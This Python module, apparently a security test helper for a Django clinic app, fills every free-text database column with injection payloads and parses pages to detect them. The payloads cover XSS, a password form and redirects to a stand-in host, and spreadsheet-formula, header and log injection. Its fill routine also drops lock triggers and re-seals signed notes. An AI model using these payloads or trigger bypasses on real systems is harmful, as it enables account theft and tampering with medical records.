"""Injection payloads, a function that writes them into every text column, and a parser that finds them.

Every payload contains MARK: where a page holds it as anything but text, the payload got through.
"""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

from django.apps import apps
from django.db import connection, models

from clinic.locks import triggers
from treatments.models import NeedlingSession, Seal
from treatments.rules.signing import seal as seal_rules
from treatments.selectors.signing import seal

MARK = "zqx"
CASES = {
    "a script": "<script>zqx()</script>",
    "a script in capitals": "<SCRIPT SRC=//zqx.example/x></SCRIPT>",
    "a picture that fails": "<img src=x onerror=zqx()>",
    "a drawing that loads": "<svg/onload=zqx()>",
    "out of an attribute": '"><b zqx onmouseover=zqx()>x',
    "out of an attribute in single quotes": "'><b zqx onclick=zqx()>x",
    "an attribute beside": '" autofocus onfocus="zqx()',
    "an attribute beside in single quotes": "' onfocus='zqx()",
    "out of a text box": "</textarea><script>zqx()</script>",
    "out of a title": "</title><script>zqx()</script>",
    "out of a list": "</option></select><svg onload=zqx()>",
    "out of a script's data": '</script><script>zqx()</script>{"',
    "out of a string": '\\";zqx();//\u2028zqx()',
    "out of a comment": "--><script>zqx()</script><!--",
    "an address that runs": "javascript:zqx()",
    "data as a page": "data:text/html,<script>zqx()</script>",
    "a frame": "<iframe srcdoc='<script>zqx()</script>'>",
    "a style": "<style>*{background:url(//zqx.example)}</style>",
    "another base": "<base href=//zqx.example/>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=//zqx.example">',
    "a form of its own": "<form action=//zqx.example><input name=password>",
    "a template": "{{ 'zq'|add:'xran' }}{% now 'zqx' %}${zqx}",
    "written as entities": "&lt;script&gt;zqxent()&lt;/script&gt;",
    "half a character": "\u00bcscript\u00bezqx()\u00bc/script\u00be",
    "a tag": "<zqx>",
    "a sum": "=zqx+1",
    "a command": "=cmd|' /C zqx'!A0",
    "a plus": "+1+zqx",
    "a minus": "-2+3+zqx",
    "an at": "@SUM(zqx)",
    "a sum behind a tab": "\t=zqx+1",
    "a sum behind a return": "\r=zqx+1",
    "a sum in full width": "\uff1dzqx+1",
    "a header": "zqx\r\nX-Injected: zqx",
    "a page behind the headers": "zqx\r\n\r\n<script>zqx()</script>",
    "a line of the log": "zqx\n2026-01-01 00:00:00 INFO clinic zqx signed in",
    "a colour of the log": "zqx\x1b[2J\x1b[31mzqx",
}
# Text columns that hold no free text: generated, chosen from a list, read as numbers, or identifiers.
GENERATED_FIELDS = {
    "username", "password", "code", "ref", "digest", "mac", "key", "key_id", "previous", "name_key",
    "phone_key", "value", "field", "part", "rule", "rule_version", "request_id", "answer_url",
    "billing_code", "billing_key", "icd10", "object_kind", "object_ref", "patient_ref", "actor_name", "state",
    "time_zone", "text_digest", "version", "source", "region", "group", "consent_group", "variant",
    "concern_answer", "profession", "kind", "stamp", "instrument", "side", "needle_stock", "followup_hours",
    "followup_open_hours", "code_right", "code_left", "code_both", "code_midline", "code_unspecified",
    "heads", "category", "handout_version", "reviewed_content",
}  # fmt: skip
# A constraint ties these to other columns.
ONLY_WHERE_FILLED = {
    "unlisted_name", "reported_to", "closing_note", "withdrawn_reason", "injured_name", "correction_reason",
    "approved_by", "retired_here_reason", "retired_here_approver",
}  # fmt: skip
# Tables without free text, or whose text is written by other ways than a column.
EXCLUDED_TABLES = {
    "CatalogueFile",
    "AuditEvent",
    "FormKey",
    "PatientLink",
    "PatientKey",
    "Seal",
    "DraftEvent",
    # names as they were, which no page of a copy shows; what a script holds
    "ConsentCopy",
    "HeldForm",
}


def typed_fields() -> dict[type[models.Model], list[models.Field]]:
    """Every free text column by model; a new text column is included automatically."""
    found = {}
    for floor in ("clinic", "patients", "treatments"):
        for model in apps.get_app_config(floor).get_models():
            fields = [field for field in model._meta.local_concrete_fields if _is_typed(field)]
            if fields and model.__name__ not in EXCLUDED_TABLES:
                found[model] = fields
    return found


def _is_typed(field: models.Field) -> bool:
    return (
        isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in GENERATED_FIELDS
    )


def case_that_fits(field: models.Field, turn: int) -> str:
    """The payload of that turn, or the next one that is short enough for the column."""
    cases = [case for case in CASES.values() if not field.max_length or len(case) <= field.max_length]
    return cases[turn % len(cases)]


def fill(turn: int) -> set[tuple[str, str]]:
    """Writes a payload into every column, past forms and lock triggers, and seals the signed notes again.

    Each column gets another payload, so that with one turn per payload every column holds each of them.
    """
    triggers.drop(connection)
    filled = set()
    for model, fields in typed_fields().items():
        for field in fields:
            turn += 1
            if _rows_of(model, field).update(**{field.name: case_that_fits(field, turn)}):
                filled.add((model.__name__, field.name))
    reseal()
    return filled


def _rows_of(model: type[models.Model], field: models.Field) -> models.QuerySet:
    """The rows that can all take the same text: one where it may stand once."""
    rows = model._base_manager.all()
    if any(field.name in constraint.fields for constraint in model._meta.total_unique_constraints):
        return rows.filter(pk__in=list(rows.values_list("pk", flat=True)[:1]))
    return rows.filter(**{field.name + "__gt": ""}) if field.name in ONLY_WHERE_FILLED else rows


def reseal() -> None:
    for session in NeedlingSession.objects.filter(seal__isnull=False):
        text = seal.text_of(seal.reread(session), signer=session.signed_by, at=session.signed_at)
        Seal.objects.filter(session=session).update(text=text, digest=seal_rules.digest(text))


class InjectionFinder(HTMLParser):
    """Collects where MARK occurs in a page as markup: in a tag, attribute, URL, script or style."""

    def __init__(self, text: str):
        super().__init__()
        self.came: list[str] = []
        self.inside, self.type = "", ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.inside, self.type = tag, attributes.get("type", "")
        if MARK in tag:
            self.came.append(f"<{tag}>")
        self.came += [
            f"<{tag} {name}={value!r}>"
            for name, value in attrs
            if _is_executable(tag, attributes, name, value or "")
        ]

    def handle_data(self, data):
        if MARK not in data or self.inside not in ("script", "style"):
            return
        if self.inside == "script" and self.type == "application/json":
            json.loads(data)
        else:
            self.came.append(f"<{self.inside}>{data[:80]}")

    def handle_comment(self, data):
        if MARK in data:
            self.came.append(f"<!--{data[:80]}")

    def handle_endtag(self, tag):
        self.inside = ""


def _is_executable(tag: str, attributes: dict, name: str, value: str) -> bool:
    """Whether an attribute that holds MARK could be executed or followed."""
    if MARK in name:
        return True
    if MARK not in value:
        return False
    if name in {"href", "src", "action", "formaction", "poster", "srcset", "data", "background"}:
        return not re.match(r"/[^/\\]|[?#]|tel:|mailto:", value)
    return (
        name.startswith(("on", "hx-"))
        or name in {"style", "srcdoc", "is", "http-equiv"}
        or (tag == "meta" and "http-equiv" in attributes)
    )


def injections_in(response) -> Iterator[str]:
    """The injections that succeeded in a response: in its headers, and in its page if it is HTML."""
    for name, value in response.headers.items():
        if "\r" in value or "\n" in value or MARK in name or name == "X-Injected":
            yield f"{name}: {value!r}"
    if MARK in response.get("Location", "") and not re.match(r"/[^/\\]", response["Location"]):
        yield response["Location"]
    if response.get("Content-Type", "").startswith("text/html"):
        text = response.content.decode()
        yield from InjectionFinder(text).came
        # a template that was rendered twice, or an entity that was unescaped
        yield from (wrong for wrong in ("zqxran", "&lt;script&gt;zqxent") if wrong in text)
